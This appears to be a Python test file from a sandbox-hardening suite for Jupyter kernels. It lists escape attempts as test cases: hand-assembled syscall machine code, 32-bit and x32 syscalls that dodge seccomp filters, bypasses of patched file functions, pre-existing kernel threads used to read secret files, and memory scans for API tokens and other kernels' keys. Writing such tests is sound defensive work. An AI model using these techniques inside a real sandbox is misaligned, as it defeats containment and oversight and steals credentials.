"""Tricks of the interpreter and of machine code: ways around checks that live in this process."""

from __future__ import annotations

from typing import Final

from tests.kernels.attacks.attack import Attack
from tests.kernels.attacks.cases.searching import SEARCH

# open(path), read(fd, page, 4096) as machine code; the path lies in the low 4 GB for the 32-bit calls
LOW_MEMORY: Final = """
libc.mmap.restype = ctypes.c_void_p
low = libc.mmap(None, ctypes.c_size_t(8192), 7, 0x22 | 0x40, -1, ctypes.c_long(0))  # MAP_32BIT
ctypes.memmove(low + 4096, TOKEN.encode() + b'\\0', len(TOKEN) + 1)

def machine(code):
    ctypes.memmove(low, code, len(code))
    return ctypes.CFUNCTYPE(ctypes.c_long)(low)()
"""

ATTACKS: Final = (
    Attack(
        "machine-code",  # no libc and no Python between the cell and the kernel
        LOW_MEMORY
        + """
def call(number, *arguments):
    loads = [b'\\x48\\xbf', b'\\x48\\xbe', b'\\x48\\xba']
    code = b''.join(op + struct.pack('q', a) for op, a in zip(loads, arguments))
    return machine(code + b'\\x48\\xb8' + struct.pack('q', number) + b'\\x0f\\x05\\xc3')
fd = call(2, low + 4096, 0, 0)
size = call(0, fd, low + 4096, 4096)
print(ctypes.string_at(low + 4096, max(size, 0)))""",
        proof="token",
    ),
    Attack(
        "thirty-two-bit-calls",  # int 0x80: other numbers, which a filter for x86_64 alone does not know
        LOW_MEMORY
        + """
def call(number, b, c, d):
    code = b'\\x53\\xb8' + struct.pack('I', number) + b'\\xbb' + struct.pack('I', b & 0xffffffff)
    code += b'\\xb9' + struct.pack('I', c) + b'\\xba' + struct.pack('I', d)
    return machine(code + b'\\xcd\\x80\\x5b\\xc3')
fd = call(5, low + 4096, 0, 0)
size = call(3, fd, low + 4096, 4000)
print(ctypes.string_at(low + 4096, max(0, min(size, 4000))))""",
        proof="token",
        needs=("/proc/sys/abi/vsyscall32",),
    ),
    Attack(
        "thirty-two-bit-socket",
        LOW_MEMORY
        + """
ctypes.memmove(low + 4096, struct.pack('3I', 2, 2, 0), 12)
code = b'\\x53\\xb8' + struct.pack('I', 102) + b'\\xbb' + struct.pack('I', 1) + b'\\xb9' + struct.pack('I', low + 4096)
fd = machine(code + b'\\xcd\\x80\\x5b\\xc3') & 0xffffffff
if fd < 1024 and os.readlink(f'/proc/self/fd/{fd}').startswith('socket:'):
    escaped('socketcall')""",
        needs=("/proc/sys/abi/vsyscall32",),
    ),
    Attack(
        "x32-calls",
        """
if libc.syscall(ctypes.c_long(0x40000000 + 39)) == os.getpid():
    escaped('x32')""",
        kind="guard",
    ),
    Attack(
        "undo-python-patches",  # whatever replaced builtins.open: the C function below it is still there
        """
import io, _io, importlib
print(_io.open_code(TOKEN).read(), _io.FileIO(TOKEN).read())""",
        proof="token",
    ),
    Attack(
        "loader-get-data",
        """
import importlib.machinery as m
print(m.SourceFileLoader('x', TOKEN).get_data(TOKEN))""",
        proof="token",
    ),
    Attack(
        "compile-a-secret",  # a syntax error quotes the line
        """
import runpy
try:
    runpy.run_path(TOKEN)
except SyntaxError as error:
    print(error.text)
except NameError as error:
    print(error)""",
        proof="token",
    ),
    Attack(
        "linecache",
        """
import linecache
print(linecache.getlines(APP + '/steps.py'))""",
        proof="source",
    ),
    Attack(
        "thread-before-limits",  # a thread that existed before the limits were set may be without them
        """
import threading
from ipykernel.kernelapp import IPKernelApp
kernel = get_ipython().kernel
found = []
kernel.iopub_thread.io_loop.add_callback(lambda: found.append(open(TOKEN).read()))
time.sleep(0.5)
print(found)""",
        proof="token",
    ),
    Attack(
        "thread-of-shell-channel",
        """
kernel = get_ipython().kernel
found = []
loop = kernel.shell_channel_thread.io_loop
loop.add_callback(lambda: found.append(os.popen('cat ' + TOKEN).read()))
time.sleep(1)
print(found)""",
        proof="token",
    ),
    Attack(
        "thread-of-control-channel",
        """
kernel = get_ipython().kernel
found = []
kernel.control_thread.io_loop.add_callback(lambda: found.append(socket.create_connection(TCP, 2).recv(99)))
time.sleep(1)
print(found)""",
        proof="banner",
    ),
    Attack(
        "objects-of-the-server",  # what the collector still knows of the process that was forked
        """
import gc
for thing in gc.get_objects():
    if isinstance(thing, dict) and any('hf_' in str(v)[:6] for v in list(thing.values())):
        print(thing)""",
        proof="environ",
        kind="guard",
    ),
    Attack(
        "keys-of-other-kernels",
        SEARCH
        + """
own = get_ipython().kernel.session.key
keys = {found for _, found in search('self', rb'(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])', by_mem('self'))}
if own and keys - {own}:
    escaped(f'{len(keys - {own})} strange keys')""",
        kind="known",  # any hash of 64 digits looks like one
    ),
    Attack(
        "raise-own-limits",
        """
import resource
for kind in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE):
    resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2)
if resource.getrlimit(resource.RLIMIT_AS)[1] == resource.RLIM_INFINITY:
    escaped('no limits')""",
        needs=("root",),
    ),
)
